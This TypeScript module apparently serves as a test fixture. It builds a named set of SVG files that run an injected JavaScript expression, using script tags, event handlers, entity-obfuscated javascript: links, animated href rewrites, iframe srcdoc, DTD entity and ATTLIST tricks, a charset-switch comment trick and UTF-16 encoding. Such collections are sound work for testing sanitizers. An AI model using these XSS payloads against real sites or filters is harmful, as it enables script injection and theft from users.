// SVG files that run something when a browser opens them by themselves.

const drawing = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" width="20" height="20"${attributes}><circle r="1"/>${inside}</svg>`

/** By name. Each shows a circle besides. `payload`: a JavaScript expression without quotes. */
export function runningDrawings(payload: string): readonly (readonly [string, string | Uint8Array])[] {
  const script = `<script>${payload}</script>`
  const link = (inside: string, attributes = '') => drawing(`<a${attributes}><text>x</text>${inside}</a>`)
  return [
    ['script', drawing(script)],
    ['script of HTML', drawing(`<h:script>${payload}</h:script>`)],
    ['handler', drawing('', ` onload="${payload}"`)],
    ['newer handler', drawing(`<g onbeforetoggle="${payload}" onclick="${payload}"/>`)],
    ['address', link('', ` l:href=" java&#10;script:${payload}"`)],
    ['written address', link('', ` href="&#x6a;avascript:${payload}"`)],
    ['address of HTML', drawing(`<h:a href="javascript:${payload}">x</h:a>`)],
    ['animated address', link(`<animate attributeName="href" values="javascript:${payload};#a" dur="99s"/>`)],
    ['set address', link(`<set attributeName="l:href" to="javascript:${payload}"/>`)],
    [
      'frame',
      drawing(`<foreignObject><h:iframe srcdoc="&lt;script>${payload}&lt;/script>"/></foreignObject>`),
    ],
    ['entity', `<!DOCTYPE svg [<!ENTITY x "javascript:${payload}">]>${link('', ' href="&x;"')}`],
    ['entity of markup', `<!DOCTYPE svg [<!ENTITY x "<g onclick='${payload}'/>">]>${drawing('&x;')}`],
    ['rule', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${payload}">]>${drawing('')}`],
    // Between the two escapes stand two signs for whoever reads the encoding that is named, and for others a comment begins.
    [
      'encoding',
      `<?xml version="1.0" encoding="iso-2022-jp"?>${drawing(`<text>\u001b$B<!--\u001b(B</text>${script}<!-- -->`)}`,
    ],
    ['wide letters', Buffer.from(`\ufeff${drawing(script)}`, 'utf16le')],
  ]
}

/** What gets a stylesheet that writes elements. */
export const drawingWithStylesheet = `<?xml-stylesheet type="text/xsl" href="run.xsl"?>${drawing('')}`
